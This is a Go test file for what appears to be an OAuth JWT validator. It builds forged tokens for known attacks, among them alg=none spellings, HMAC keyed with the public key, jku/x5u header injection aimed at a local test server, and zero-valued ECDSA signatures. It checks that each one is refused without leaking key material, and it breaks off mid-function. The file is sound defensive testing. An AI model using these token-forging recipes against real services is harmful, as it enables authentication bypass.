package middleware_test

// The attack catalogue: each test is one family of attacks on a JWT access
// token validator, each table case one attack, named after it. Every case
// asserts the exact reason (errors.Is with the reason sentinel), the 401
// invalid_token response, and that neither the description nor the rendered
// response repeats the token, its segments, its kid or any key material.

import (
	"bytes"
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"math/big"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/clientcasa/oauthguard/authtest"
	"github.com/clientcasa/oauthguard/jwks"
	"github.com/clientcasa/oauthguard/keyset"
	"github.com/clientcasa/oauthguard/middleware"
	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"
	"github.com/golang-jwt/jwt/v5"
)

// enc is base64url without padding, the JWS segment encoding.
func enc(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

func encBytes(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

// attack is one hostile token and the exact reason it must be refused with.
type attack struct {
	name   string
	raw    string
	reason error // nil only for a control case, which must be accepted
}

// keyReasons are the reasons about the key or the algorithm, on which
// jwt.Parse with keyset.Keyfunc must give the validator's verdict.
var keyReasons = []error{middleware.ErrAlgNotAllowed, middleware.ErrUnknownKey, middleware.ErrBadSignature}

// runAttacks validates every case with v. secrets lists key material that no
// response may show. When keys (v's key source) is set, every control case
// and every case refused for a key reason must get the same verdict from
// jwt.Parse with keyset.Keyfunc(keys): one key-selection path for both.
func runAttacks(t *testing.T, v *middleware.Validator, keys keyset.Source, secrets []string, cases []attack) {
	t.Helper()
	if keys != nil {
		keyfunc := keyset.Keyfunc(keys)
		checked := 0
		for _, tc := range cases {
			keyCase := tc.reason == nil
			for _, r := range keyReasons {
				keyCase = keyCase || errors.Is(tc.reason, r)
			}
			if !keyCase {
				continue
			}
			checked++
			_, err := jwt.Parse(tc.raw, keyfunc, jwt.WithValidMethods(keyset.Algorithms()), jwt.WithoutClaimsValidation())
			if (err == nil) != (tc.reason == nil) {
				t.Errorf("%s: jwt.Parse with keyset.Keyfunc: %v; the validator's reason: %v", tc.name, err, tc.reason)
			}
		}
		if checked == 0 {
			t.Error("no control or key case to compare with jwt.Parse")
		}
	}
	names := map[string]bool{}
	for _, tc := range cases {
		if names[tc.name] {
			t.Fatalf("duplicate case name %q", tc.name)
		}
		names[tc.name] = true
		t.Run(tc.name, func(t *testing.T) {
			c, err := v.Validate(context.Background(), tc.raw)
			if tc.reason == nil {
				if err != nil {
					t.Fatalf("control case refused: %v", err)
				}
				return
			}
			if c != nil || !errors.Is(err, tc.reason) {
				t.Fatalf("got claims=%v err=%v; want reason %v", c, err, tc.reason)
			}
			var e *middleware.Error
			if !errors.As(err, &e) || e.Status != http.StatusUnauthorized || e.Code != "invalid_token" ||
				!errors.Is(err, middleware.ErrInvalidToken) {
				t.Fatalf("want a 401 invalid_token *Error, got %#v", err)
			}
			w := httptest.NewRecorder()
			middleware.Renderer{}.Write(w, err)
			if w.Code != http.StatusUnauthorized {
				t.Fatalf("rendered status %d, want 401", w.Code)
			}
			shown := e.Description + "\n" + w.Header().Get("WWW-Authenticate") + "\n" + w.Body.String()
			for _, s := range mustNotShow(tc.raw, secrets) {
				if strings.Contains(shown, s) {
					t.Fatalf("the response repeats %q:\n%s", s, shown)
				}
			}
		})
	}
}

// mustNotShow lists what no response may repeat: the token, each of its
// segments, the kid of its header, and secrets. Strings too short to be
// recognisable are left out.
func mustNotShow(raw string, secrets []string) []string {
	var out []string
	add := func(s string, min int) {
		if len(s) >= min {
			out = append(out, s)
		}
	}
	add(raw, 6)
	for _, seg := range strings.Split(raw, ".") {
		add(seg, 6)
	}
	add(headerKID(raw), 3)
	for _, s := range secrets {
		add(s, 6)
	}
	return out
}

// headerKID reads the kid of raw's header leniently ("" when there is none).
func headerKID(raw string) string {
	seg, _, _ := strings.Cut(raw, ".")
	b, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(seg, "="))
	if err != nil {
		return ""
	}
	var h map[string]any
	if json.Unmarshal(b, &h, jsontext.AllowDuplicateNames(true), jsontext.AllowInvalidUTF8(true)) != nil {
		return ""
	}
	kid, _ := h["kid"].(string)
	return kid
}

// rawJWKs returns the members of doc's keys array by kid.
func rawJWKs(t *testing.T, doc []byte) map[string]jsontext.Value {
	t.Helper()
	var set struct {
		Keys []jsontext.Value `json:"keys"`
	}
	if err := json.Unmarshal(doc, &set); err != nil {
		t.Fatal(err)
	}
	out := map[string]jsontext.Value{}
	for _, k := range set.Keys {
		var head struct {
			Kid string `json:"kid"`
		}
		if err := json.Unmarshal(k, &head); err != nil {
			t.Fatal(err)
		}
		out[head.Kid] = k
	}
	return out
}

// keyMaterial lists the public key material of as in the forms an attacker
// would use as an HMAC secret: the JWK members, the JWK itself, PEM.
func keyMaterial(t *testing.T, as *staticAS) []string {
	t.Helper()
	var out []string
	for kid, jwk := range rawJWKs(t, as.doc) {
		var m map[string]any
		if err := json.Unmarshal(jwk, &m); err != nil {
			t.Fatal(err)
		}
		out = append(out, kid, string(jwk))
		for _, name := range []string{"n", "x", "y"} {
			if s, ok := m[name].(string); ok {
				out = append(out, s)
			}
		}
	}
	for _, pk := range as.pubs {
		der, err := x509.MarshalPKIXPublicKey(pk.key)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, base64.StdEncoding.EncodeToString(der))
		out = append(out, strings.Split(string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})), "\n")...)
	}
	return out
}

func pubOf(t *testing.T, as *staticAS, kid string) crypto.PublicKey {
	t.Helper()
	for _, pk := range as.pubs {
		if pk.kid == kid {
			return pk.key
		}
	}
	t.Fatalf("no public key %q", kid)
	return nil
}

// jsonString quotes s as a JSON string.
func jsonString(t *testing.T, s string) string {
	t.Helper()
	b, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// hdr is a JOSE header with alg and kid ("" leaves kid out) and typ at+jwt,
// plus extra members given as JSON text.
func hdr(alg, kid string, extra ...string) string {
	h := fmt.Sprintf(`{"alg":%q`, alg)
	if kid != "" {
		h += fmt.Sprintf(`,"kid":%q`, kid)
	}
	h += `,"typ":"at+jwt"`
	for _, e := range extra {
		h += "," + e
	}
	return h + "}"
}

// omit, as a value in claimsJSON, removes the member.
const omit = "\x00omit"

// claimsJSON returns valid claims for fuzzIssuer as JSON text, with the
// members given as name/value pairs (raw JSON text; a name may hold JSON
// escapes) replacing or following the defaults.
func claimsJSON(kv ...string) string {
	members := [][2]string{
		{"iss", strconv.Quote(fuzzIssuer)}, {"aud", strconv.Quote(authtest.DefaultAudience)},
		{"sub", `"user_123"`}, {"organizationId", `"org_acme"`},
		{"iat", strconv.FormatInt(now.Unix(), 10)}, {"exp", strconv.FormatInt(now.Add(time.Hour).Unix(), 10)},
	}
	for i := 0; i+1 < len(kv); i += 2 {
		found := false
		for j := range members {
			if members[j][0] == kv[i] {
				members[j][1], found = kv[i+1], true
			}
		}
		if !found {
			members = append(members, [2]string{kv[i], kv[i+1]})
		}
	}
	var b strings.Builder
	b.WriteByte('{')
	for _, m := range members {
		if m[1] == omit {
			continue
		}
		if b.Len() > 1 {
			b.WriteByte(',')
		}
		b.WriteString(`"` + m[0] + `":` + m[1])
	}
	b.WriteByte('}')
	return b.String()
}

// ownSigner is a validator whose only key (kid ownKID, EdDSA) the test holds,
// so that it can sign any segment text, canonical or not: a rejection then
// comes from the shape alone, not from the signature.
type ownSigner struct {
	priv ed25519.PrivateKey
	v    *middleware.Validator
}

const ownKID = "k-self"

func newOwnSigner(t *testing.T) *ownSigner {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	ks := keySetFunc(func(_ context.Context, kid, alg string) (crypto.PublicKey, error) {
		if (kid == ownKID || kid == "") && alg == "EdDSA" {
			return pub, nil
		}
		return nil, errors.New("no such key")
	})
	v, err := middleware.New(middleware.Config{Issuers: []string{fuzzIssuer}, Audiences: []string{authtest.DefaultAudience},
		Keys: ks, Now: func() time.Time { return now }})
	if err != nil {
		t.Fatal(err)
	}
	return &ownSigner{priv: priv, v: v}
}

// sign returns h.p.signature over the segment text exactly as given.
func (o *ownSigner) sign(h, p string) string {
	in := h + "." + p
	return in + "." + encBytes(ed25519.Sign(o.priv, []byte(in)))
}

// signJSON encodes header and payload canonically and signs them.
func (o *ownSigner) signJSON(header, payload string) string { return o.sign(enc(header), enc(payload)) }

func TestAttackAlgNone(t *testing.T) {
	as := allAlgAS(t)
	kid := as.kid(t, "ES256")
	_, p, s := splitToken(as.mint(t, authtest.Token{Alg: "ES256"}))
	var cases []attack
	for _, spelling := range []struct{ label, header string }{
		{"none", hdr("none", kid)},
		{"None", hdr("None", kid)},
		{"NONE", hdr("NONE", kid)},
		{"nOnE", hdr("nOnE", kid)},
		{"none_trailing_space", hdr("none ", kid)},
		{"none_no_kid", hdr("none", "")},
		{"empty", hdr("", kid)},
		{"missing", fmt.Sprintf(`{"kid":%q,"typ":"at+jwt"}`, kid)},
	} {
		h := enc(spelling.header)
		cases = append(cases,
			// With the real key's signature: refused on the alg, before any key is used.
			attack{"alg_" + spelling.label + "_with_signature", h + "." + p + "." + s, middleware.ErrAlgNotAllowed},
			// Without a signature: a JWS needs three non-empty segments.
			attack{"alg_" + spelling.label + "_empty_signature", h + "." + p + ".", middleware.ErrMalformed},
			attack{"alg_" + spelling.label + "_no_signature_segment", h + "." + p, middleware.ErrMalformed},
		)
	}
	cases = append(cases,
		attack{"alg_null", enc(`{"alg":null,"typ":"at+jwt"}`) + "." + p + "." + s, middleware.ErrMalformed},
		attack{"alg_array_none", enc(`{"alg":["none"]}`) + "." + p + "." + s, middleware.ErrMalformed},
	)
	runAttacks(t, as.v, as.keys, keyMaterial(t, as), cases)
}

// secretForm is one encoding of a public key used as an HMAC secret.
type secretForm struct {
	name string
	key  []byte
}

// TestAttackHMACWithPublicKey is algorithm confusion: HS* tokens whose HMAC
// secret is the server's public key in every form a library might feed to
// an HMAC verifier.
func TestAttackHMACWithPublicKey(t *testing.T) {
	as := allAlgAS(t)
	jwksByKID := rawJWKs(t, as.doc)
	var cases []attack
	for _, alg := range []string{"RS256", "ES256", "EdDSA"} {
		kid := as.kid(t, alg)
		pub := pubOf(t, as, kid)
		der, err := x509.MarshalPKIXPublicKey(pub)
		if err != nil {
			t.Fatal(err)
		}
		var jwk map[string]any
		if err := json.Unmarshal(jwksByKID[kid], &jwk); err != nil {
			t.Fatal(err)
		}
		member := func(name string) string { s, _ := jwk[name].(string); return s }
		secrets := []secretForm{
			{"pem_pkix", pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})},
			{"der_pkix", der},
			{"jwk_json", jwksByKID[kid]},
		}
		switch k := pub.(type) {
		case *rsa.PublicKey:
			pkcs1 := x509.MarshalPKCS1PublicKey(k)
			secrets = append(secrets,
				secretForm{"pem_pkcs1", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1})},
				secretForm{"der_pkcs1", pkcs1},
				secretForm{"jwk_n", []byte(member("n"))},
				secretForm{"jwk_n_decoded", k.N.Bytes()})
		default:
			x, err := base64.RawURLEncoding.DecodeString(member("x"))
			if err != nil || len(x) == 0 {
				t.Fatalf("kid %q: x %q", kid, member("x"))
			}
			secrets = append(secrets, secretForm{"jwk_x", []byte(member("x"))}, secretForm{"jwk_x_decoded", x})
		}
		_, p, _ := splitToken(as.mint(t, authtest.Token{Alg: alg}))
		for _, hs := range []string{"HS256", "HS384", "HS512"} {
			method := jwt.GetSigningMethod(hs)
			for _, withKID := range []bool{true, false} {
				h := hdr(hs, "")
				label := "without_kid"
				if withKID {
					h, label = hdr(hs, kid), "with_real_kid"
				}
				for _, sec := range secrets {
					in := enc(h) + "." + p
					sig, err := method.Sign(in, sec.key)
					if err != nil {
						t.Fatal(err)
					}
					cases = append(cases, attack{
						name:   fmt.Sprintf("%s_secret_%s_%s_%s", hs, strings.ToLower(alg), sec.name, label),
						raw:    in + "." + encBytes(sig),
						reason: middleware.ErrAlgNotAllowed,
					})
				}
			}
		}
	}
	runAttacks(t, as.v, as.keys, keyMaterial(t, as), cases)
}

// spyKeys records every lookup a validator makes and what it got.
type spyKeys struct {
	next keyset.Source
	mu   sync.Mutex
	log  []string
	bad  []string
}

func (s *spyKeys) Key(ctx context.Context, q keyset.Query) (crypto.PublicKey, error) {
	k, err := s.next.Key(ctx, q)
	kid, alg := q.KeyID, q.Algorithm
	s.mu.Lock()
	defer s.mu.Unlock()
	s.log = append(s.log, kid+" "+alg)
	switch k.(type) {
	case nil, *rsa.PublicKey, *ecdsa.PublicKey, ed25519.PublicKey:
	default:
		s.bad = append(s.bad, fmt.Sprintf("%s %s -> %T", kid, alg, k))
	}
	if kid == "hmac-key" && k != nil {
		s.bad = append(s.bad, fmt.Sprintf("%s %s -> %T", kid, alg, k))
	}
	return k, err
}

// TestAttackSymmetricKeyInJWKS publishes an oct key in the JWKS: HS* tokens
// naming it are refused on the alg, asymmetric headers naming it find no key,
// and the oct key never reaches a verifier.
func TestAttackSymmetricKeyInJWKS(t *testing.T) {
	f := newFixture(t, []string{"EdDSA"}, nil)
	secret := []byte("a-shared-hmac-secret-of-32-bytes")
	f.as.PublishRaw([]byte(fmt.Sprintf(`{"kty":"oct","kid":"hmac-key","use":"sig","alg":"HS256","k":%q}`, encBytes(secret))))
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := f.keys.Refresh(ctx); err != nil {
		t.Fatal(err)
	}
	skipped := false
	for _, sk := range f.keys.Health().Skipped {
		skipped = skipped || sk.KID == "hmac-key"
	}
	if !skipped {
		t.Fatalf("the oct key is not reported as skipped: %+v", f.keys.Health())
	}
	spy := &spyKeys{next: f.keys}
	v, err := middleware.New(middleware.Config{Issuers: []string{f.as.Issuer()}, Audiences: []string{f.as.Audience()},
		Keys: spy, Now: func() time.Time { return now }})
	if err != nil {
		t.Fatal(err)
	}
	edKID := f.as.KIDs("EdDSA")[0]
	good := f.mint(t, authtest.Token{})
	_, p, _ := splitToken(good)
	payload, _ := base64.RawURLEncoding.DecodeString(p)
	hmacToken := func(alg, kid string) string {
		in := enc(hdr(alg, kid)) + "." + p
		sig, err := jwt.GetSigningMethod(alg).Sign(in, secret)
		if err != nil {
			t.Fatal(err)
		}
		return in + "." + encBytes(sig)
	}
	signed := func(alg string) string {
		s, err := f.as.SignRaw(edKID, []byte(hdr(alg, "hmac-key")), payload)
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	runAttacks(t, v, f.keys, []string{encBytes(secret), string(secret)}, []attack{
		{"control_real_key_accepted", good, nil},
		{"HS256_with_oct_kid_signed_with_oct_secret", hmacToken("HS256", "hmac-key"), middleware.ErrAlgNotAllowed},
		{"HS384_with_oct_kid_signed_with_oct_secret", hmacToken("HS384", "hmac-key"), middleware.ErrAlgNotAllowed},
		{"HS512_with_oct_kid_signed_with_oct_secret", hmacToken("HS512", "hmac-key"), middleware.ErrAlgNotAllowed},
		{"HS256_without_kid_signed_with_oct_secret", hmacToken("HS256", ""), middleware.ErrAlgNotAllowed},
		{"EdDSA_header_naming_oct_kid", signed("EdDSA"), middleware.ErrUnknownKey},
		{"RS256_header_naming_oct_kid", signed("RS256"), middleware.ErrUnknownKey},
		{"ES256_header_naming_oct_kid", signed("ES256"), middleware.ErrUnknownKey},
	})
	spy.mu.Lock()
	defer spy.mu.Unlock()
	if len(spy.bad) > 0 {
		t.Fatalf("the key set handed out unusable keys: %q", spy.bad)
	}
	for _, l := range spy.log {
		if strings.Contains(l, " HS") {
			t.Fatalf("an HS* token reached the key set: %q", spy.log)
		}
	}
}

// TestAttackKeyURLHeaders signs tokens with an attacker's key and points jku,
// x5u, jwk and x5c at that key. None may be used, and the attacker's server
// must never be contacted.
func TestAttackKeyURLHeaders(t *testing.T) {
	f := newFixture(t, []string{"ES256"}, nil)
	var hits atomic.Int64
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
	}))
	defer attacker.Close()

	priv, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := priv.PublicKey.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	jwk := fmt.Sprintf(`{"kty":"EC","crv":"P-256","x":%q,"y":%q,"kid":"attacker","alg":"ES256","use":"sig"}`,
		encBytes(raw[1:33]), encBytes(raw[33:]))
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(7), Subject: pkix.Name{CommonName: "as.example.test"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign}
	cert, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &priv.PublicKey, priv)
	if err != nil {
		t.Fatal(err)
	}
	x5c := fmt.Sprintf(`"x5c":[%q]`, base64.StdEncoding.EncodeToString(cert))
	_, p, _ := splitToken(f.mint(t, authtest.Token{}))
	sign := func(h string) string {
		in := enc(h) + "." + p
		sig, err := jwt.SigningMethodES256.Sign(in, priv)
		if err != nil {
			t.Fatal(err)
		}
		return in + "." + encBytes(sig)
	}
	realKID := f.as.KIDs("ES256")[0]
	var cases []attack
	for _, m := range []struct{ name, member string }{
		{"jku", fmt.Sprintf(`"jku":%q`, attacker.URL+"/jwks.json")},
		{"x5u", fmt.Sprintf(`"x5u":%q`, attacker.URL+"/cert.pem")},
		{"jwk", `"jwk":` + jwk},
		{"x5c", x5c},
		{"all_four", fmt.Sprintf(`"jku":%q,"x5u":%q,"jwk":%s,%s`, attacker.URL+"/jwks.json", attacker.URL+"/cert.pem", jwk, x5c)},
	} {
		cases = append(cases,
			// The only ES256 key of the set is the real one: its signature check fails.
			attack{m.name + "_attacker_signed_without_kid", sign(hdr("ES256", "", m.member)), middleware.ErrBadSignature},
			attack{m.name + "_attacker_signed_with_real_kid", sign(hdr("ES256", realKID, m.member)), middleware.ErrBadSignature},
			attack{m.name + "_attacker_signed_with_attacker_kid", sign(hdr("ES256", "attacker", m.member)), middleware.ErrUnknownKey},
		)
	}
	runAttacks(t, f.v, f.keys, []string{jwk, encBytes(raw[1:33]), base64.StdEncoding.EncodeToString(cert)[:64]}, cases)
	if n := hits.Load(); n != 0 {
		t.Fatalf("the attacker's server received %d requests", n)
	}
}

// TestAttackECDSASignatures tampers with the r and s of real ES256/384/512
// signatures, including CVE-2022-21449's r = s = 0.
func TestAttackECDSASignatures(t *testing.T) {
	as := allAlgAS(t)
	var cases []attack
	for _, alg := range []string{"ES256", "ES384", "ES512"} {
		curve := map[string]elliptic.Curve{"ES256": elliptic.P256(), "ES384": elliptic.P384(), "ES512": elliptic.P521()}[alg]
		size := (curve.Params().BitSize + 7) / 8
		n := curve.Params().N
		good := as.mint(t, authtest.Token{Alg: alg})
		h, p, s := splitToken(good)
		sig, _ := base64.RawURLEncoding.DecodeString(s)
		if len(sig) != 2*size {
			t.Fatalf("%s signature of %d bytes", alg, len(sig))
		}
		r, sv := sig[:size], sig[size:]
		_, _, osig := splitToken(as.mint(t, authtest.Token{Alg: alg, Claims: map[string]any{"organizationId": "org_globex"}}))
		otherSig, _ := base64.RawURLEncoding.DecodeString(osig)
		num := func(x *big.Int) []byte { return x.FillBytes(make([]byte, size)) }
		cat := func(parts ...[]byte) []byte { return bytes.Join(parts, nil) }
		zero := make([]byte, size)
		ones := bytes.Repeat([]byte{0xFF}, size)
		nPlus1 := new(big.Int).Add(n, big.NewInt(1))
		der, err := asn1.Marshal(struct{ R, S *big.Int }{new(big.Int).SetBytes(r), new(big.Int).SetBytes(sv)})
		if err != nil {
			t.Fatal(err)
		}
		with := func(b []byte) string { return h + "." + p + "." + encBytes(b) }
		a := strings.ToLower(alg) + "_"
		cases = append(cases,
			attack{a + "control_accepted", good, nil},
			attack{a + "psychic_signature_r0_s0", with(cat(zero, zero)), middleware.ErrBadSignature},
			attack{a + "r_zero", with(cat(zero, sv)), middleware.ErrBadSignature},
			attack{a + "s_zero", with(cat(r, zero)), middleware.ErrBadSignature},
			attack{a + "r_s_equal_n_zero_mod_n", with(cat(num(n), num(n))), middleware.ErrBadSignature},
			attack{a + "r_equal_n", with(cat(num(n), sv)), middleware.ErrBadSignature},
			attack{a + "s_equal_n", with(cat(r, num(n))), middleware.ErrBadSignature},
			attack{a + "r_n_plus_1", with(cat(num(nPlus1), sv)), middleware.ErrBadSignature},
			attack{a + "s_n_plus_1", with(cat(r, num(nPlus1))), middleware.ErrBadSignature},
			attack{a + "r_all_ones", with(cat(ones, sv)), middleware.ErrBadSignature},
			attack{a + "s_all_ones", with(cat(r, ones)), middleware.ErrBadSignature},
			attack{a + "r_s_swapped", with(cat(sv, r)), middleware.ErrBadSignature},
			attack{a + "asn1_der_instead_of_raw", with(der), middleware.ErrBadSignature},
			attack{a + "truncated_one_byte", with(sig[:len(sig)-1]), middleware.ErrBadSignature},
			attack{a + "extended_one_byte", with(cat(sig, []byte{0})), middleware.ErrBadSignature},
			attack{a + "leading_zero_byte", with(cat([]byte{0}, sig)), middleware.ErrBadSignature},
			attack{a + "r_only", with(r), middleware.ErrBadSignature},
			attack{a + "one_byte", with([]byte{0}), middleware.ErrBadSignature},
			attack{a + "signature_of_another_token", with(otherSig), middleware.ErrBadSignature},
		)
	}
	runAttacks(t, as.v, as.keys, keyMaterial(t, as), cases)
}

// TestAttackRSASignatures tampers with real RSA signatures.
func TestAttackRSASignatures(t *testing.T) {
	as := allAlgAS(t)
	var cases []attack
	for _, alg := range []string{"RS256", "PS256"} {
		good := as.mint(t, authtest.Token{Alg: alg})
		h, p, s := splitToken(good)
		sig, _ := base64.RawURLEncoding.DecodeString(s)
		_, _, osig := splitToken(as.mint(t, authtest.Token{Alg: alg, Claims: map[string]any{"organizationId": "org_globex"}}))
		otherSig, _ := base64.RawURLEncoding.DecodeString(osig)
		hb, _ := base64.RawURLEncoding.DecodeString(h)
		pb, _ := base64.RawURLEncoding.DecodeString(p)
		// The same signing input signed by another RSA key of the provider.
		otherKey := "RS384"
		if alg == "RS384" {
			otherKey = "RS512"
		}
		_, _, ks := splitToken(as.signRaw(t, as.kid(t, otherKey), string(hb), string(pb)))
		keySig, _ := base64.RawURLEncoding.DecodeString(ks)
		mod := pubOf(t, as, as.kid(t, alg)).(*rsa.PublicKey).N.Bytes()
		with := func(b []byte) string { return h + "." + p + "." + encBytes(b) }
		a := strings.ToLower(alg) + "_"
		one := make([]byte, len(sig))
		one[len(one)-1] = 1
		cases = append(cases,
			attack{a + "control_accepted", good, nil},
			attack{a + "wrong_length_short", with(sig[1:]), middleware.ErrBadSignature},
			attack{a + "wrong_length_long", with(append(bytes.Clone(sig), 0)), middleware.ErrBadSignature},
			attack{a + "leading_zero_byte", with(append([]byte{0}, sig...)), middleware.ErrBadSignature},
			attack{a + "all_zeros", with(make([]byte, len(sig))), middleware.ErrBadSignature},
			attack{a + "all_ff", with(bytes.Repeat([]byte{0xFF}, len(sig))), middleware.ErrBadSignature},
			attack{a + "one", with(one), middleware.ErrBadSignature},
			attack{a + "modulus", with(mod), middleware.ErrBadSignature},
			attack{a + "signature_of_another_token", with(otherSig), middleware.ErrBadSignature},
			attack{a + "same_input_signed_by_another_key", with(keySig), middleware.ErrBadSignature},
		)
	}
	runAttacks(t, as.v, as.keys, keyMaterial(t, as), cases)
}

// TestAttackAlgorithmSubstitution relabels the alg of real signatures: a JWK
// that pins its alg admits no other, even of the same family; a JWK without
// alg admits its family, and the signature must then verify under the
// header's alg.
func TestAttackAlgorithmSubstitution(t *testing.T) {
	t.Run("pinned", func(t *testing.T) {
		as := allAlgAS(t)
		payload := claimsJSON()
		relabel := func(keyAlg, headerAlg string, withKID bool) string {
			kid := as.kid(t, keyAlg)
			h := hdr(headerAlg, "")
			if withKID {
				h = hdr(headerAlg, kid)
			}
			return as.signRaw(t, kid, h, payload)
		}
		runAttacks(t, as.v, as.keys, keyMaterial(t, as), []attack{
			{"rs256_key_relabelled_ps256", relabel("RS256", "PS256", true), middleware.ErrAlgNotAllowed},
			{"rs256_key_relabelled_rs384", relabel("RS256", "RS384", true), middleware.ErrAlgNotAllowed},
			{"rs256_key_relabelled_rs512", relabel("RS256", "RS512", true), middleware.ErrAlgNotAllowed},
			{"rs256_key_relabelled_es256", relabel("RS256", "ES256", true), middleware.ErrAlgNotAllowed},
			{"rs256_key_relabelled_eddsa", relabel("RS256", "EdDSA", true), middleware.ErrAlgNotAllowed},
			{"ps256_key_relabelled_rs256", relabel("PS256", "RS256", true), middleware.ErrAlgNotAllowed},
			{"ps256_key_relabelled_ps512", relabel("PS256", "PS512", true), middleware.ErrAlgNotAllowed},
			{"es256_key_relabelled_es384", relabel("ES256", "ES384", true), middleware.ErrAlgNotAllowed},
			{"es512_key_relabelled_es256", relabel("ES512", "ES256", true), middleware.ErrAlgNotAllowed},
			{"eddsa_key_relabelled_ed25519", relabel("EdDSA", "Ed25519", true), middleware.ErrAlgNotAllowed},
			{"ed25519_key_relabelled_eddsa", relabel("Ed25519", "EdDSA", true), middleware.ErrAlgNotAllowed},
			// Without kid the header's alg picks its own key, whose check then fails.
			{"rs256_signature_relabelled_ps256_without_kid", relabel("RS256", "PS256", false), middleware.ErrBadSignature},
			{"es256_signature_relabelled_es384_without_kid", relabel("ES256", "ES384", false), middleware.ErrBadSignature},
		})
	})
	t.Run("unpinned", func(t *testing.T) {
		p, err := authtest.NewProvider(authtest.Options{Issuer: fuzzIssuer, Algs: []string{"RS256", "PS256", "EdDSA"},
			OmitJWKAlg: true, Now: func() time.Time { return now }})
		if err != nil {
			t.Fatal(err)
		}
		doc, err := p.JWKS()
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(doc, []byte(`"alg"`)) {
			t.Fatalf("OmitJWKAlg published alg: %s", doc)
		}
		keys, _, err := jwks.Parse(doc)
		if err != nil {
			t.Fatal(err)
		}
		v, err := staticValidator(doc, nil)
		if err != nil {
			t.Fatal(err)
		}
		payload := claimsJSON()
		relabel := func(keyAlg, headerAlg string) string {
			kid := p.KIDs(keyAlg)[0]
			s, err := p.SignRaw(kid, []byte(hdr(headerAlg, kid)), []byte(payload))
			if err != nil {
				t.Fatal(err)
			}
			return s
		}
		mint := func(alg string) string {
			s, err := p.Mint(authtest.Token{Alg: alg})
			if err != nil {
				t.Fatal(err)
			}
			return s
		}
		runAttacks(t, v, keys, nil, []attack{
			{"control_pss_signed_ps256_on_unpinned_rsa_key_accepted", mint("PS256"), nil},
			{"control_rs256_on_unpinned_rsa_key_accepted", mint("RS256"), nil},
			{"control_eddsa_relabelled_ed25519_on_unpinned_okp_key_accepted", relabel("EdDSA", "Ed25519"), nil},
			{"rs256_signature_relabelled_ps256", relabel("RS256", "PS256"), middleware.ErrBadSignature},
			{"rs256_signature_relabelled_rs512", relabel("RS256", "RS512"), middleware.ErrBadSignature},
			{"pss_signature_relabelled_rs256", relabel("PS256", "RS256"), middleware.ErrBadSignature},
			{"pss256_signature_relabelled_ps512", relabel("PS256", "PS512"), middleware.ErrBadSignature},
			{"rsa_key_relabelled_es256", relabel("RS256", "ES256"), middleware.ErrAlgNotAllowed},
			{"okp_key_relabelled_rs256", relabel("EdDSA", "RS256"), middleware.ErrAlgNotAllowed},
		})
	})
}

// TestAttackForgedKeyID signs with an attacker's key of every alg under the
// kid of the provider's real key of that alg.
func TestAttackForgedKeyID(t *testing.T) {
	as := allAlgAS(t)
	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	_, edKey, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	ecKeys := map[string]*ecdsa.PrivateKey{}
	for alg, c := range map[string]elliptic.Curve{"ES256": elliptic.P256(), "ES384": elliptic.P384(), "ES512": elliptic.P521()} {
		if ecKeys[alg], err = ecdsa.GenerateKey(c, rand.Reader); err != nil {
			t.Fatal(err)
		}
	}
	payload := enc(claimsJSON())
	var cases []attack
	for _, alg := range allAlgs {
		var key crypto.Signer = rsaKey
		method := jwt.GetSigningMethod(alg)
		switch alg[:2] {
		case "ES":
			key = ecKeys[alg]
		case "Ed":
			key, method = edKey, jwt.SigningMethodEdDSA
		}
		for _, withKID := range []bool{true, false} {
			h, label := hdr(alg, ""), "without_kid"
			if withKID {
				h, label = hdr(alg, as.kid(t, alg)), "with_real_kid"
			}
			in := enc(h) + "." + payload
			sig, err := method.Sign(in, key)
			if err != nil {
				t.Fatal(err)
			}
			cases = append(cases, attack{strings.ToLower(alg) + "_attacker_key_" + label, in + "." + encBytes(sig), middleware.ErrBadSignature})
		}
	}
	runAttacks(t, as.v, as.keys, keyMaterial(t, as), cases)
}

// noncanonical changes the last character of seg so that its unused low bits
// are non-zero: a lax decoder returns the same bytes, a strict one fails.
// len(seg)%4 must be 2 or 3.
func noncanonical(t *testing.T, seg string) string {
	t.Helper()
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	if len(seg)%4 < 2 {
		t.Fatalf("segment of length %d has no unused bits", len(seg))
	}
	out := seg[:len(seg)-1] + string(alphabet[strings.IndexByte(alphabet, seg[len(seg)-1])|1])
	a, err1 := base64.RawURLEncoding.DecodeString(seg)
	b, err2 := base64.RawURLEncoding.DecodeString(out)
